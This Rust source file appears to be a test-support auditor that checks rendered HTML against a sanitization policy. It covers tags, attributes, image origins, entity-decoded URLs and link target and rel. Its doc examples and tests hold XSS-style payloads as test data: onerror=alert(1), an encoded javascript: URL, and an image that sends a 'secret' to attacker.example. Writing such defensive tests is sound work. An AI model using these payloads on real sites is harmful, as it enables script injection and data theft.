//! Checks finished markup against the policy: every tag allowed, every attribute allowed,
//! every URL allowed (images only from the allowed origins), links opening safely. Tests use it
//! on everything the renderers produce.

use super::policy::{
    ALLOWED_TAGS, ImageOrigins, LINK_REL, LINK_TARGET, allowed_attributes, url_attribute_is_allowed,
};

/// Every way `html` breaks the policy when images may load from `images`, described for a test
/// failure; empty when it obeys.
///
/// `html` is markup as a serializer writes it (quoted attributes, `<` in text escaped), so each
/// `<` opens a tag a browser would build.
///
/// ```
/// use lexstream_protocol::render::audit::violations;
/// use lexstream_protocol::render::policy::ImageOrigins;
/// let images = ImageOrigins::parse(&["https://cdn.example.com"]).unwrap();
/// assert!(violations("<p>Hi <b>there</b></p>", &images).is_empty());
/// assert_eq!(
///     violations("<img src=\"https://cdn.example.com/x\" onerror=\"alert(1)\">", &images),
///     ["attribute onerror on <img>"]
/// );
/// assert_eq!(violations("<img src=\"/logout\">", &images), ["src=\"/logout\" on <img>"]);
/// ```
pub fn violations(html: &str, images: &ImageOrigins) -> Vec<String> {
    let mut found = Vec::new();
    for piece in html.split('<').skip(1) {
        if piece.starts_with("!--") {
            found.push("a comment".to_owned());
            continue;
        }
        let closing = piece.starts_with('/');
        let rest = piece.trim_start_matches('/');
        let name_end = rest.find(|c: char| !c.is_ascii_alphanumeric()).unwrap_or(rest.len());
        let tag = rest[..name_end].to_ascii_lowercase();
        if !ALLOWED_TAGS.contains(&tag.as_str()) {
            found.push(format!("tag <{}{tag}>", if closing { "/" } else { "" }));
            continue;
        }
        if !closing {
            check_attributes(&tag, &attributes(&rest[name_end..]), images, &mut found);
        }
    }
    found
}

fn check_attributes(
    tag: &str,
    attributes: &[(String, String)],
    images: &ImageOrigins,
    found: &mut Vec<String>,
) {
    for (name, value) in attributes {
        let expected_link_value = match (tag, name.as_str()) {
            ("a", "target") => Some(LINK_TARGET),
            ("a", "rel") => Some(LINK_REL),
            _ => None,
        };
        if let Some(expected) = expected_link_value {
            if value != expected {
                found.push(format!("{name}=\"{value}\" on <a>"));
            }
        } else if !allowed_attributes(tag).contains(&name.as_str()) {
            found.push(format!("attribute {name} on <{tag}>"));
        } else if !url_attribute_is_allowed(tag, name, &decode_entities(value), images) {
            found.push(format!("{name}=\"{value}\" on <{tag}>"));
        }
    }
    if tag == "a" && attributes.iter().any(|(name, _)| name == "href") {
        for required in ["target", "rel"] {
            if !attributes.iter().any(|(name, _)| name == required) {
                found.push(format!("a link without {required}"));
            }
        }
    }
}

/// The `name="value"` pairs of a start tag, from just after its name to its `>`.
fn attributes(mut rest: &str) -> Vec<(String, String)> {
    let mut pairs = Vec::new();
    loop {
        rest = rest.trim_start_matches(|c: char| c.is_ascii_whitespace() || c == '/');
        if rest.is_empty() || rest.starts_with('>') {
            return pairs;
        }
        let name_end =
            rest.find(|c: char| c.is_ascii_whitespace() || c == '=' || c == '>').unwrap_or(rest.len());
        let name = rest[..name_end].to_ascii_lowercase();
        rest = &rest[name_end..];
        let mut value = String::new();
        if let Some(after_equals) = rest.strip_prefix('=') {
            let (raw, remainder) = match after_equals.chars().next() {
                Some(quote @ ('"' | '\'')) => {
                    let inner = &after_equals[1..];
                    let end = inner.find(quote).unwrap_or(inner.len());
                    (&inner[..end], inner.get(end + 1..).unwrap_or(""))
                }
                _ => {
                    let end = after_equals
                        .find(|c: char| c.is_ascii_whitespace() || c == '>')
                        .unwrap_or(after_equals.len());
                    (&after_equals[..end], &after_equals[end..])
                }
            };
            value = raw.to_owned();
            rest = remainder;
        }
        pairs.push((name, value));
    }
}

/// Decodes the character references a serializer writes (`&amp;`, `&quot;`, `&#…;`, `&#x…;`)
/// and any other numeric one, as a browser would before reading a URL.
fn decode_entities(value: &str) -> String {
    let mut decoded = String::with_capacity(value.len());
    let mut rest = value;
    while let Some(start) = rest.find('&') {
        decoded.push_str(&rest[..start]);
        rest = &rest[start..];
        let Some(end) = rest.find(';') else { break };
        let reference = &rest[1..end];
        let character = match reference {
            "amp" => Some('&'),
            "quot" => Some('"'),
            "apos" => Some('\''),
            "lt" => Some('<'),
            "gt" => Some('>'),
            "colon" => Some(':'),
            "Tab" => Some('\t'),
            "NewLine" => Some('\n'),
            _ => reference.strip_prefix('#').and_then(|number| {
                let code = match number.strip_prefix(['x', 'X']) {
                    Some(hex) => u32::from_str_radix(hex, 16).ok(),
                    None => number.parse().ok(),
                };
                code.and_then(char::from_u32)
            }),
        };
        match character {
            Some(c) => {
                decoded.push(c);
                rest = &rest[end + 1..];
            }
            None => {
                decoded.push('&');
                rest = &rest[1..];
            }
        }
    }
    decoded.push_str(rest);
    decoded
}

#[cfg(test)]
mod tests {
    use super::*;

    fn cdn() -> ImageOrigins {
        ImageOrigins::parse(&["https://cdn.example"]).unwrap_or_default()
    }

    #[test]
    fn an_encoded_script_url_is_still_caught() {
        let found = violations(
            "<a href=\"&#106;avascript&colon;alert(1)\" target=\"_blank\" rel=\"noopener noreferrer nofollow\">x</a>",
            &cdn(),
        );
        assert_eq!(found.len(), 1, "{found:?}");
    }

    #[test]
    fn a_link_must_open_in_a_new_tab_without_opener() {
        assert_eq!(violations("<a href=\"https://x.example\">x</a>", &cdn()).len(), 2);
        let opener = "<a href=\"https://x.example\" target=\"_self\" rel=\"opener\">x</a>";
        assert_eq!(violations(opener, &cdn()).len(), 2);
    }

    #[test]
    fn forbidden_tags_and_comments_are_reported() {
        assert_eq!(violations("<script>x</script><!-- c --><svg></svg>", &cdn()).len(), 5);
    }

    #[test]
    fn unquoted_and_single_quoted_values_are_read() {
        assert_eq!(
            violations("<img src=https://cdn.example/x onerror=alert(1)>", &cdn()),
            ["attribute onerror on <img>"]
        );
        assert_eq!(violations("<img src='data:x' alt='a'>", &cdn()), ["src=\"data:x\" on <img>"]);
    }

    #[test]
    fn an_image_from_an_origin_not_allowed_is_reported() {
        assert!(violations("<img src=\"https://cdn.example/a.png\" alt=\"a\">", &cdn()).is_empty());
        let elsewhere = "<img src=\"https://attacker.example/?q=secret\">";
        assert_eq!(violations(elsewhere, &cdn()).len(), 1);
        assert_eq!(violations("<img src=\"/account/logout\">", &cdn()).len(), 1);
        assert_eq!(violations("<img src=\"https://cdn.example/a.png\">", &ImageOrigins::none()).len(), 1);
        assert!(
            violations(
                "<a href=\"/account\" target=\"_blank\" rel=\"noopener noreferrer nofollow\">a</a>",
                &cdn()
            )
            .is_empty()
        );
    }
}
